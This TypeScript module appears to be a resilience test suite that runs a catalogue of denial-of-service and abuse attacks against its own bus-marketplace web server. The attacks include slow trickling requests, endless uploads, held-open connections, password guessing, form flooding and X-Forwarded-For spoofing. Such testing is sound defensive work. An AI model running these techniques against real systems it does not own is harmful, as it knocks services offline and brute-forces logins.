import { randomBytes } from 'node:crypto';
import { setTimeout as sleep } from 'node:timers/promises';
import { sellFields } from '../submissions/measure.ts';
import { foreignArticles, hostileSlugs } from './hostile-articles.ts';
import { addressOf, hammer, head, keepOpen, pour, type Target } from './lines.ts';

/** Does its worst until the target's end; says what became of it. */
export type Attack = (target: Target) => Promise<string>;

const patienceMs = 60_000;
const form = 'Content-Type: application/x-www-form-urlencoded';

const trickle = (line: string, addresses: number): Attack => {
  return async (target) => {
    let cut = 0;
    await keepOpen(
      target,
      1_000,
      (socket, at) => {
        socket.resume().once('close', () => (cut += 1));
        const length = 'Content-Length: 1000000';
        socket.write(`${head(target, line, addressOf(at, addresses), form, length)}a`);
      },
      (socket) => socket.write('a'),
      10_000,
    );
    return `${cut} cut off`;
  };
};

const post = async (
  target: Target,
  path: string,
  body: BodyInit,
  address: string,
  headers: Record<string, string> = {},
) => {
  const answer = await fetch(target.origin + path, {
    method: 'POST',
    redirect: 'manual',
    headers: { origin: target.origin, 'x-forwarded-for': address, ...headers },
    body,
    signal: AbortSignal.timeout(patienceMs),
  });
  await answer.arrayBuffer();
  return answer;
};
const tell = (statuses: Record<number, number>) =>
  Object.entries(statuses)
    .map(([status, count]) => `${count} × ${status}`)
    .join(', ');

/** A bus half offered; gives the key of its private page. */
async function startDraft(target: Target, at: number): Promise<string> {
  const key = randomBytes(16).toString('hex');
  const fields = sellFields(key, `${key}@attack.example`);
  const answer = await post(target, '/sell-your-bus', fields, addressOf(at, 60_000));
  const location = new URL(answer.headers.get('location') ?? '/', target.origin);
  return location.searchParams.get('draft') ?? '';
}

const endlessPasskey: Attack = async (target) => {
  let posts = 0;
  await hammer(target, 3, async (at) => {
    const chunked = ['Content-Type: application/json', 'Transfer-Encoding: chunked'];
    const first = head(target, 'POST /staff/sign-in/passkey', addressOf(at, 3), ...chunked);
    await pour(target, first, 400_000_000, true);
    posts += 1;
    return 200;
  });
  return `${posts} posts`;
};

/** The bytes of a form's field instead of a photo, or in front of the first boundary. */
const endlessPart = (opening: string): Attack => {
  return async (target) => {
    const draft = await startDraft(target, 0);
    let posts = 0;
    await hammer(target, 8, async (at) => {
      const first = head(
        target,
        `POST /sell-your-bus/uploading?draft=${draft}`,
        addressOf(at, 8),
        'Content-Type: multipart/form-data; boundary=b',
        'Content-Length: 119000000',
      );
      await pour(target, first + opening, 118_000_000, false);
      posts += 1;
      return 200;
    });
    return `${posts} posts`;
  };
};

/** Almost all of a form that may be large, and then nothing: who holds it in memory meanwhile? */
const heldForms: Attack = async (target) => {
  const most = Buffer.alloc(1_900_000, 'a');
  await keepOpen(
    target,
    600,
    (socket, at) => {
      const length = 'Content-Length: 2000000';
      socket.resume().write(head(target, 'POST /staff/sign-in', addressOf(at, 600), form, length));
      socket.write(most);
    },
    (socket) => socket.write('a'),
  );
  return '600 connections of 1.9 MB';
};

const passwords: Attack = async (target) =>
  tell(
    await hammer(target, 400, async (at) => {
      const fields = new URLSearchParams({ email: 'owner@example.com', password: `guess ${at}` });
      return (await post(target, '/staff/sign-in', fields, addressOf(at, 1_000))).status;
    }),
  );

const contactFlood: Attack = async (target) =>
  tell(
    await hammer(target, 200, async () => {
      const key = randomBytes(16).toString('hex');
      const email = `${key}@attack.example`;
      const fields = new URLSearchParams({ firstName: 'A', email, message: `Bus ${key}`, key });
      return (await post(target, '/contact', fields, addressOf(1, 10))).status;
    }),
  );

/** Files begun with a kilobyte and grown afterwards, more at once than one draft may have. */
const growingFiles: Attack = async (target) => {
  const drafts = await Promise.all(Array.from({ length: 4 }, (_, at) => startDraft(target, at)));
  const files = drafts.flatMap((draft) =>
    Array.from({ length: 41 }, () => ({ draft, key: randomBytes(12).toString('hex'), offset: 0 })),
  );
  const piece = Buffer.alloc(1_000_000, 1);
  piece.set([0xff, 0xd8, 0xff, 0xe0]);
  const send = async (file: (typeof files)[number], bytes: Buffer) => {
    const answer = await fetch(
      `${target.origin}/sell-your-bus/uploading/photo?draft=${file.draft}`,
      {
        method: 'PATCH',
        headers: {
          origin: target.origin,
          'x-forwarded-for': addressOf(1, 10),
          'idempotency-key': file.key,
          'upload-offset': String(file.offset),
          'upload-length': '20000000',
        },
        body: new Uint8Array(bytes),
        signal: AbortSignal.timeout(patienceMs),
      },
    );
    await answer.arrayBuffer();
    if (answer.status === 202) file.offset += bytes.length;
    return answer.status;
  };
  const begun = await Promise.all(files.map((file) => send(file, piece.subarray(0, 1_000))));
  const statuses = await hammer(target, 12, (at) => send(files[at % files.length]!, piece));
  const kept = files.reduce((sum, { offset }) => sum + offset, 0);
  const started = begun.filter((status) => status === 202).length;
  return `${started} of ${files.length} begun, ${Math.round(kept / 1e6)} MB kept; ${tell(statuses)}`;
};

const questions: Attack = async (target) => {
  const requests = Array.from({ length: 50 }, (_, at) => ({
    indexName: 'buses_v2',
    query: 'bus'.slice(0, at % 4),
    hitsPerPage: 1_000,
    page: at % 3,
  }));
  const key = await searchKey();
  let bytes = 0;
  const statuses = await hammer(target, 20, async (at) => {
    requests[at % 50]!.query = `b${at}`;
    const answer = await fetch(`${target.origin}/1/indexes/*/queries?${key}`, {
      method: 'POST',
      body: JSON.stringify({ requests }),
      headers: { 'x-forwarded-for': addressOf(at, 20) },
      signal: AbortSignal.timeout(patienceMs),
    });
    bytes += (await answer.arrayBuffer()).byteLength;
    return answer.status;
  });
  return `${tell(statuses)}; ${Math.round(bytes / 1e6)} MB out`;
};

/** As the search box of a page asks. */
async function searchKey(): Promise<string> {
  const { defaultSearchService } = await import('#server/http/algolia/algolia-settings.ts');
  const { applicationId, searchKey: key } = defaultSearchService;
  return new URLSearchParams({
    'x-algolia-application-id': applicationId,
    'x-algolia-api-key': key,
  }).toString();
}

const garbage: Attack = async (target) => {
  const paths = ['/staff/sign-in', '/staff/import', '/contact', '/sell-your-bus', '/staff/confirm'];
  const types = ['multipart/form-data; boundary=b', 'multipart/form-data', 'application/json'];
  const same = { 'sec-fetch-site': 'same-origin' };
  return tell(
    await hammer(target, 32, async (at) => {
      const headers = { ...same, 'content-type': types[at % types.length]! };
      const body = randomBytes(1 + (at % 5_000));
      const path = paths[at % paths.length]!;
      return (await post(target, path, new Uint8Array(body), addressOf(at, 5_000), headers)).status;
    }),
  );
};

/** Pictures that are asked for and never taken. */
const unread: Attack = async (target) => {
  const list = await (await fetch(`${target.origin}/buses`)).text();
  const pictures = [...list.matchAll(/\/media\/[^"\s,?]+/g)].map(([path]) => path);
  await keepOpen(target, 1_000, (socket, at) => {
    socket.pause();
    const picture = pictures[at % pictures.length] ?? '/assets/none';
    // Many answers in a row, so that the buffers of both ends are full.
    socket.write(head(target, `GET ${picture}`, addressOf(at, 50)).repeat(40));
  });
  return '1,000 connections';
};

const idle: Attack = async (target) => {
  await keepOpen(target, 3_000, (socket) => socket.resume());
  return '3,000 connections';
};

/** Articles that are dear to read, asked for as soon as they are there, and all the time. */
const articles: Attack = async (target) => {
  const read = new Set<string>();
  const statuses = await hammer(target, 4, async (at) => {
    const slug = hostileSlugs[at % hostileSlugs.length]!;
    const answer = await fetch(`${target.origin}/knowledge-center/blog/${slug}/`, {
      headers: { 'x-forwarded-for': addressOf(at, 5_000) },
      signal: AbortSignal.timeout(patienceMs),
    });
    await answer.arrayBuffer();
    if (answer.status === 200) read.add(slug);
    await sleep(50);
    return answer.status;
  });
  return `${read.size} of ${hostileSlugs.length} read; ${tell(statuses)}`;
};

/** Every way that is known to have hurt once. */
export const attacks: Readonly<Record<string, Attack>> = {
  'trickling sign-ins, 1 address': trickle('POST /staff/sign-in', 1),
  'trickling sign-ins, 50 addresses': trickle('POST /staff/sign-in', 50),
  'trickling sign-ins, 1,000 addresses': trickle('POST /staff/sign-in', 1_000),
  'trickling photos, 1,000 addresses': trickle('PATCH /sell-your-bus/uploading/photo', 1_000),
  'trickling questions, 1,000 addresses': trickle('POST /1/indexes/buses_v2/query', 1_000),
  'passkey without an end': endlessPasskey,
  'a field without an end': endlessPart(
    '--b\r\nContent-Disposition: form-data; name="act"\r\n\r\n',
  ),
  'a preamble without an end': endlessPart('x'),
  'forms held back': heldForms,
  'passwords guessed': passwords,
  'messages from one address': contactFlood,
  'files begun small': growingFiles,
  'fifty questions in one': questions,
  'garbage as forms': garbage,
  'pictures not taken': unread,
  'idle connections': idle,
  [foreignArticles]: articles,
};
